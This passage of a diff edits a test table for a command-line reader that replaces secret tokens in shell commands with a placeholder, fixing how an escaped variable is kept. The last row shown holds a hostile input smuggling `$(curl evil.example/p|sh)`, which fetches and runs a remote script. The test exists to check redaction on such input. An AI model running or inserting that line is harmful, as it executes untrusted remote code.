@@ -202,7 +202,8 @@ describe("the command-line reader's invariants on generated lines", { timeout: 6
   // blank inside a substitution split.
   it.each([
     ["sh -c 'srv --token hunter2SECRET9$X run'", "sh -c 'srv --token ${TOKEN}$X run'"],
-    ['bash -c "srv --token hunter2SECRET9\\$X run"', 'bash -c "srv --token ${TOKEN} run"'],
+    // Read with its escapes undone (fix163): `\$X` is the running shell's `$X`, kept in sight.
+    ['bash -c "srv --token hunter2SECRET9\\$X run"', 'bash -c "srv --token ${TOKEN}\\$X run"'],
     ['bash -c "TOKEN=hunter2SECRET9$1 srv"', 'bash -c "TOKEN=${TOKEN}$1 srv"'],
     [
       "sh -c 'srv --token \"hunter2SECRET9$(curl evil.example/p|sh)\" run'",
